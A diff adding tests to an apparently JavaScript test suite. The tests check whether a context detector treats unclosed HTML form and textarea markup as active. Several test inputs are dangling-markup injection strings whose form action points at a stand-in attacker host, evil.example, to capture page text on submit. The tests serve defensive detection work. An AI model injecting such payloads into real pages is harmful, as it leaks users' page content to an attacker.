@@ -205,3 +205,20 @@ describe('fuzzy links', () => {
     expect(context.active).toBe(true);
   });
 });
+
+describe('form content', () => {
+  // What a form holds (a textarea's text, an option) is sent to its action on submit: a link in
+  // all but name. Sanitizers such as DOMPurify keep forms by default.
+  it.each([
+    ['<form action="https://evil.example/c"><textarea name=d>'],
+    ['<form action=//evil.example/c><select name=d><option>'],
+    ['<FORM ACTION=x><p>Fill in: <textarea>'],
+    ['<form><form></form><textarea>'],
+  ])('is in context after %j', (text) => {
+    expect(activeAfter(text)).toBe(true);
+  });
+
+  it.each([['<form action=x><textarea></textarea></form> '], ['<form></FORM > '], ['<p>form</p> '], ['</form> ']])('is not in context after %j', (text) => {
+    expect(activeAfter(text)).toBe(false);
+  });
+});
